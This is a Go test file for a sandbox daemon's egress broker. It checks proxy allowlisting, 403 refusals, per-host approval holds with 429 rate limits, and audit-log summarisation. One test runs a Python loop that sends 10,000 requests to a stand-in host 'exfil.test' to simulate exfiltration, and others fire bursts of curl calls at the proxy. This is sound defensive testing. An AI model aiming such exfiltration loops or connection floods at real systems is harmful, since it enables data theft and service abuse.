package daemon

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/ironclaw/ironclaw/internal/client"
	"github.com/ironclaw/ironclaw/internal/daemontest"
	"github.com/ironclaw/ironclaw/internal/defaults"
	"github.com/ironclaw/ironclaw/internal/egress"
)

// A sandbox's one way out is its egress broker: an allowlisted host is
// reached through HTTP_PROXY, anything else is refused with a clear 403,
// and both are audited. The stand-in "internet" is a server on the host's
// loopback, reachable only because the test allows 127.0.0.0/8.
func TestEgressFromInsideSandbox(t *testing.T) {
	port := upstream(t, func(*http.Request) string { return "hello from the allowlisted host" })
	r := startDaemon(t, t.TempDir(), func(c *Config) {
		c.Model.Provider = "mock"
		c.Egress.AllowPrivate = []string{"127.0.0.0/8"}
		c.Egress.Allow = []string{"localhost:" + port}
		c.Egress.DenyUnknown = true // asking an operator is TestApprovalGateway's
	})
	cl := r.client(t, false)
	ctx := context.Background()
	sb, err := cl.CreateSandbox(ctx, client.CreateRequest{EgressAllow: []string{"localhost:" + port}})
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	res, err := cl.Exec(ctx, sb.ID, client.ExecRequest{Stdout: &out, Stderr: &out, Cmd: fmt.Sprintf(`
echo "proxy=$HTTP_PROXY"
curl -sS --noproxy '' -x "$HTTP_PROXY" http://localhost:%[1]s/; echo
curl -sS --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w '%%{http_code}\n' http://localhost:1/
curl -sS --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w '%%{http_code}\n' http://example.com/
curl -sS --max-time 2 http://localhost:%[1]s/ >/dev/null 2>&1 || echo "direct: refused"`, port)})
	if err != nil || res.Exit != 0 {
		t.Fatalf("exec: %v %+v\n%s", err, res, out.String())
	}
	got := out.String()
	for _, want := range []string{"proxy=http://127.0.0.1:4001", "hello from the allowlisted host", "403\n403\n", "direct: refused"} {
		if !strings.Contains(got, want) {
			t.Fatalf("missing %q in:\n%s", want, got)
		}
	}
	recs, err := r.client(t, true).AuditTail(ctx, 0, 1000)
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]int{}
	for _, rec := range recs {
		kinds[rec.Kind]++
	}
	if kinds["egress.allow"] < 1 || kinds["egress.deny"] < 2 {
		t.Fatalf("egress audit records: %v", kinds)
	}
	// A bad rule is refused before anything is created.
	if _, err := cl.CreateSandbox(ctx, client.CreateRequest{EgressAllow: []string{"*"}}); err == nil {
		t.Fatal("a lone * was accepted as an egress rule")
	}
}

// From inside a sandbox, 30 connections to one host off the allowlist
// while an operator has not decided: the broker holds as many as one
// approval may (MaxWaitingPerHost) and refuses the rest at once with 429;
// the approval then lets the held ones through.
func TestHostileEgressHeldPerApproval(t *testing.T) {
	port := upstream(t, func(*http.Request) string { return "through" })
	r := startDaemon(t, t.TempDir(), func(c *Config) {
		c.Model.Provider = "mock"
		c.Egress.AllowPrivate = []string{"127.0.0.0/8"}
		c.Egress.Resolver = fakeDNS{"held.test": "127.0.0.1"}
		c.Egress.MaxWaitingPerHost = 4
	})
	cl, op := r.client(t, false), r.client(t, true)
	ctx := context.Background()
	sb := daemontest.CreateSandbox(t, cl)
	var out bytes.Buffer
	done := make(chan error, 1)
	go func() {
		res, err := cl.Exec(ctx, sb.ID, client.ExecRequest{Stdout: &out, Stderr: &out, Timeout: 3 * time.Minute, Cmd: fmt.Sprintf(`
for i in $(seq 30); do
  curl -sS --noproxy '' -x "$HTTP_PROXY" -o /dev/null -w '%%{http_code}\n' http://held.test:%s/ > /workspace/r.$i 2>&1 &
done
wait
cat /workspace/r.* | sort | uniq -c`, port)})
		if err == nil && res.Exit != 0 {
			err = fmt.Errorf("exit %d", res.Exit)
		}
		done <- err
	}()
	a := waitPending(t, op, sb.ID, "egress.host")
	// The refusals come at once, while the approval is still pending.
	deadline := time.Now().Add(60 * time.Second)
	for {
		var n bytes.Buffer
		if _, err := cl.Exec(ctx, sb.ID, client.ExecRequest{Stdout: &n, Cmd: "cat /workspace/r.* 2>/dev/null | grep -c 429"}); err != nil {
			t.Fatal(err)
		}
		if strings.TrimSpace(n.String()) == "26" {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%s connections refused, want 26", strings.TrimSpace(n.String()))
		}
		time.Sleep(50 * time.Millisecond)
	}
	if got, err := op.GetApproval(ctx, a.ID, 0); err != nil || got.State != "pending" {
		t.Fatalf("approval %v %v", got.State, err)
	}
	if _, err := op.Approve(ctx, a.ID, "", ""); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatalf("exec: %v\n%s", err, out.String())
	}
	got := out.String()
	if !strings.Contains(got, "4 200") || !strings.Contains(got, "26 429") {
		t.Fatalf("statuses:\n%s", got)
	}
}

// From inside a sandbox, 10,000 refused egress attempts: the audit log
// gets one full record and a summary carrying the count (per window), not
// 10,000 records.
func TestHostileEgressRefusalLoop(t *testing.T) {
	needPython(t)
	r := startDaemon(t, t.TempDir(), func(c *Config) {
		c.Model.Provider = "mock"
		c.Egress.DenyUnknown = true
	})
	cl, op := r.client(t, false), r.client(t, true)
	ctx := context.Background()
	sb := daemontest.CreateSandbox(t, cl)
	const n = 10000
	start := time.Now()
	var out bytes.Buffer
	res, err := cl.Exec(ctx, sb.ID, client.ExecRequest{Stdout: &out, Stderr: &out, Timeout: 5 * time.Minute, Cmd: fmt.Sprintf(`/usr/bin/python3 - <<'EOF'
import socket
codes = {}
for i in range(%d):
    s = socket.create_connection(("127.0.0.1", %d))
    s.sendall(b"GET http://exfil.test/?i=%%d HTTP/1.1\r\nHost: exfil.test\r\n\r\n" %% i)
    got = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        got += d
    s.close()
    code = got[9:12].decode()
    codes[code] = codes.get(code, 0) + 1
print(codes)
EOF`, n, defaults.EgressPort)})
	if err != nil || res.Exit != 0 {
		t.Fatalf("exec: %v %+v\n%s", err, res, out.String())
	}
	if got := strings.TrimSpace(out.String()); got != fmt.Sprintf("{'403': %d}", n) {
		t.Fatalf("attempts: %s", got)
	}
	windows := int(time.Since(start)/egress.DefaultDenyWindow) + 1
	if _, err := cl.DeleteSandbox(ctx, sb.ID); err != nil { // closes the broker: the last summary
		t.Fatal(err)
	}
	recs, err := op.AuditTail(ctx, 0, 100000)
	if err != nil {
		t.Fatal(err)
	}
	records, refusals := 0, 0
	for _, rec := range recs {
		if rec.Kind != "egress.deny" || rec.Session != sb.ID {
			continue
		}
		records++
		var d struct {
			Host    string `json:"host"`
			Reason  string `json:"reason"`
			Summary bool   `json:"summary"`
			Count   int    `json:"count"`
		}
		if err := json.Unmarshal(rec.Data, &d); err != nil {
			t.Fatal(err)
		}
		if d.Host != "exfil.test" || d.Reason != "not_allowlisted" {
			t.Fatalf("record %s", rec.Data)
		}
		if d.Summary {
			refusals += d.Count
		} else {
			refusals++
		}
	}
	if records > 2*windows || refusals != n {
		t.Fatalf("%d records for %d refusals (want at most %d records, counting %d)", records, refusals, 2*windows, n)
	}
	t.Logf("%d refusals in %v: %d audit records", n, time.Since(start).Round(time.Millisecond), records)
}
